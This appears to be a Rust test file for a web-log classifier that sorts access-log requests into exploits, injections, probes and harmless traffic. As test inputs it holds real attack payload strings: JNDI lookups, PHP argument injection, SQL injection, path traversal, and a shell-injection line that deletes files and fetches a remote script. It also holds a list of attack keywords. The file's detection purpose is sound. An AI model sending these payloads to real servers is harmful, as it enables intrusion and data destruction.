use alloc::format;
use alloc::string::{String, ToString};

use crate::testing::{tells, told};
use crate::{Event, Grammars, Line, Private};

const CLIENT: &str = "203.0.113.9 - - [23/Nov/2026:02:00:01 +0000]";

fn asked(method: &str, target: &str, status: u16, referrer: &str, agent: &str) -> String {
    format!("{CLIENT} \"{method} {target} HTTP/1.1\" {status} 7 \"{referrer}\" \"{agent}\"")
}

#[track_caller]
fn visits(target: &str, status: u16, expected: Option<&str>) {
    let told = told("web", &asked("GET", target, status, "-", "Mozilla/5.0 Firefox/130.0"));
    let expected = expected.map(|kind| format!("{kind} 203.0.113.9"));
    assert_eq!(told, expected, "{target} {status}");
}

fn with_event<T>(raw: &str, look: impl FnOnce(&Event<'_>) -> T) -> T {
    let service = "web".parse().unwrap();
    look(&Grammars::shipped().parse(Some(service), &Line::parse(raw.as_bytes())).unwrap())
}

#[test]
fn a_page_cannot_make_its_visitors_attack_by_what_it_is_called() {
    let line = asked("GET", "/logo.png", 200, "https://evil.example/p?${jndi:", "Mozilla/5.0");
    assert_eq!(told("web", &line), None);
}

#[test]
fn an_exploit_that_a_page_may_have_embedded_is_no_more_than_a_probe() {
    let target = "/?x=${jndi:ldap://a.example}";
    for (method, referrer, kind) in [
        ("GET", "-", "exploit"),
        ("GET", "https://evil.example/", "web-probe"),
        ("HEAD", "https://evil.example/", "web-probe"),
        ("POST", "https://evil.example/", "exploit"),
    ] {
        tells("web", &asked(method, target, 200, referrer, "x"), &format!("{kind} 203.0.113.9"));
    }
    visits("/boaform/x.png", 200, None);
    visits("/boaform/x.png", 404, Some("web-probe"));
}

#[test]
fn who_searches_for_words_of_attacks_attacks_nobody() {
    for words in [
        "powershell",
        "allow_url_include",
        "auto_prepend_file",
        "invokefunction",
        "information_schema",
        "sleep(",
        "php://",
        "php://input",
        "cmd.exe",
        "wget+http",
        "wget+http%3A%2F%2Fa.example",
        "%27cats%27+or+%27dogs%27",
        "union+select",
        "/etc/passwd",
        "/etc/hosts",
        "%3C%3Fphp+echo",
        "%3Cscript+src",
        "eval()",
        "system()",
        "function+()+%7B",
        "javascript:void(0)",
        "Runtime.getRuntime().exec",
        "class.module.classloader",
        "chmod+755",
        "169.254.169.254",
        "onload%3D",
        "document.cookie",
        "base64_decode(",
        "rm+-rf",
        "nc+-e",
        "xp_cmdshell",
    ] {
        visits(&format!("/suggest?q={words}"), 200, None);
    }
}

#[test]
fn mirrors_forges_and_links_of_ones_own_are_no_attacks() {
    for target in [
        "/debian/pool/main/b/busybox/busybox_1.36_amd64.deb",
        "/login?next=../account",
        "/project/.git/info/refs?service=git-upload-pack",
        "/project/.git/HEAD",
        "/user/repo/src/branch/main/.env",
        "/user/repo/src/branch/main/.vscode/settings.json",
        "/docs/phpunit/",
        "/a/b/../../c.css",
    ] {
        visits(target, 200, None);
    }
}

#[test]
fn payloads_are_told_by_their_syntax() {
    for (target, kind) in [
        ("/?a=x;powershell+-enc+x", "injection"),
        ("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "exploit"),
        ("/?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "exploit"),
        ("/?id=1+union+select+null,null", "injection"),
        ("/?id=1+and+sleep(5)", "injection"),
        ("/?page=php://filter/convert.base64-encode/resource=index", "injection"),
        ("/?f=../../../etc/passwd", "injection"),
        ("/shell?cd+/tmp;rm+-rf+*;wget+http://a.example/x", "injection"),
        ("/.env", "web-probe"),
        ("/.git/config", "web-probe"),
    ] {
        visits(target, 200, Some(kind));
    }
}

#[test]
fn clients_whose_session_has_ended_and_monitors_are_no_probes() {
    for (target, status, kind) in [
        ("/owa/service.svc", 440, "client-error"),
        ("/cgi-bin/icinga/status.cgi", 401, "unauthorized"),
        ("/webmail/api/poll", 401, "unauthorized"),
        ("/webmail/api/poll", 429, "rate-limited"),
        ("/mailinglists/abc", 404, "not-found"),
        ("/wp-admin/admin-ajax.php", 401, "unauthorized"),
        ("/phpmyadmin/themes/old.png", 404, "not-found"),
        ("/wp-content/plugins/gone/style.css", 404, "not-found"),
        ("/api/login/refresh", 401, "unauthorized"),
        ("/phpmyadmin/", 404, "web-probe"),
        ("/webmail/", 404, "web-probe"),
    ] {
        visits(target, status, Some(kind));
    }
    for page in ["old/1.php", "a.asp", "b.aspx", "c.jsp", "cgi-bin/view.cgi", "d.html"] {
        visits(&format!("/{page}"), 404, Some("not-found"));
    }
}

#[test]
fn a_proxy_that_cannot_reach_or_forbids_a_site_has_no_attacker() {
    for (status, expected) in [
        (503, None),
        (502, None),
        (403, Some("client-error 203.0.113.9")),
        (407, Some("client-error 203.0.113.9")),
        (405, Some("relay-denied 203.0.113.9")),
    ] {
        let line = asked("CONNECT", "dead.example:443", status, "-", "x");
        assert_eq!(told("web", &line).as_deref(), expected, "{status}");
    }
    let line = asked("CONNECT", "ads.example:443", 403, "-", "x");
    assert!(with_event(&line, |event| event.target.is_none()), "sites that are forbidden are no search");
}

#[test]
fn the_path_of_a_failed_log_in_is_private_unless_it_is_the_proof() {
    let hidden = |method: &str, target: &str, status| {
        with_event(&asked(method, target, status, "-", "DAVx5"), |event| {
            let parts = event.others.iter().flatten().map(|part| match part {
                Private::Query(text) => String::from_utf8_lossy(text).to_string(),
                other => panic!("{other:?}"),
            });
            parts.collect::<alloc::vec::Vec<_>>()
        })
    };
    let calendar = "remote.php/dav/calendars/alice/personal/?token=x";
    assert_eq!(hidden("PROPFIND", &format!("/{calendar}"), 401), [calendar]);
    assert_eq!(hidden("GET", "/.env?a=b", 404), ["a=b"]);
    assert_eq!(hidden("GET", "/a?b=c&d=${jndi:x}&e=f", 200), ["b=c", "e=f"]);
}

#[test]
fn what_was_looked_for_is_a_page_and_with_a_payload_in_its_query_all_of_both() {
    for (target, expected) in [("/.env?a=1", "/.env"), ("/a?b=${jndi:x}", "/a?b=${jndi:x}"), ("/x?y=z", "/x")]
    {
        let line = asked("GET", target, 404, "-", "x");
        with_event(&line, |event| assert_eq!(event.target, Some(expected.as_bytes())));
    }
}
